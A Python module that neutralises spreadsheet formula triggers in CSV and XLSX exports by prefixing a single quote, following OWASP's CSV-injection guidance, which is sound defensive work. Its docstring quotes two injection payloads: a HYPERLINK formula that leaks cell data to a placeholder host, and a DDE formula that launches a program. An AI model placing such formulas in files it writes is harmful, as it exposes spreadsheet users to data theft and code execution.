"""Text bound for a spreadsheet cell, made inert: the OWASP CSV-injection rule, in one place.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a tab or carriage
return in front of one) as a formula: ``=HYPERLINK("http://x?"&A1)`` leaks data, ``=cmd|' /C calc'!A0`` runs a
program through DDE. Asset names, sectors, strategy names and notes are typed by users or imported, so every
text cell of every CSV and XLSX file AutoIndex writes goes through :func:`neutralise`, which prefixes a single
quote, as OWASP recommends (https://owasp.org/www-community/attacks/CSV_Injection). Numbers are never passed
here: a negative return is written as the number -0.05, not as text.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when it starts with a formula trigger; otherwise ``text`` unchanged."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def neutralise_cell(value: Any) -> Any:
    """:func:`neutralise` for a text value; numbers, dates and missing values are returned as they are."""
    return neutralise(value) if isinstance(value, str) else value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised (numeric columns untouched)."""
    out = frame.rename(columns=lambda c: neutralise_cell(c))
    for position, dtype in enumerate(out.dtypes):
        if not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_datetime64_any_dtype(dtype)):
            out.isetitem(position, out.iloc[:, position].map(neutralise_cell))
    return out
